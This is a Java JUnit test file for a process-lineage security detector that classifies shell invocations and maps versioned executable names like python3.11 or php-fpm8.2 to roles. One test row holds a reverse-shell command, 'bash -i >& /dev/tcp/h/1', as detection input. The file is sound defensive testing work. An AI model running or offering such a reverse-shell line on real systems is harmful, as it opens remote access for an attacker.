package io.hivesec.detectors.lineage;

import static org.assertj.core.api.Assertions.assertThat;

import io.hivesec.event.Process;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

final class InvocationTest {

    @ParameterizedTest
    @CsvSource({
        "sh, UNKNOWN",
        "sh -i, INTERACTIVE",
        "bash -li, INTERACTIVE",
        "bash -l, BARE",
        "bash --norc --noprofile -i, INTERACTIVE",
        "bash --rcfile /tmp/x -i, INTERACTIVE",
        "bash -s, BARE",
        "sh -c id, COMMAND",
        "bash -ec id, COMMAND",
        "bash x.sh, SCRIPT",
        "bash -x x.sh -i, SCRIPT",
        "busybox sh -i, INTERACTIVE",
        "bash -o pipefail -c id, COMMAND",
        "bash -i >& /dev/tcp/h/1, INTERACTIVE"
    })
    void of_argumentVector_saysWhereCommandsComeFrom(String line, Invocation expected) {
        Process shell = Process.builder()
                .executable("/bin/x")
                .arguments(line.split(" "))
                .build();
        assertThat(Invocation.of(shell)).isEqualTo(expected);
    }

    @ParameterizedTest
    @CsvSource({
        "/usr/bin/python3.11, INTERPRETER, true",
        "/usr/sbin/php-fpm8.2, WEB_SERVER, true",
        "/usr/bin/perl5.36.0, INTERPRETER, true",
        "/usr/bin/7z, ARCHIVER, true",
        "/usr/bin/pythonista, INTERPRETER, false",
        "/usr/bin/sh, SHELL, true"
    })
    void is_nameWithVersion_hasTheRoleOfTheName(String executable, Role role, boolean expected) {
        assertThat(Roles.is(Process.builder().executable(executable).build(), role))
                .isEqualTo(expected);
    }
}
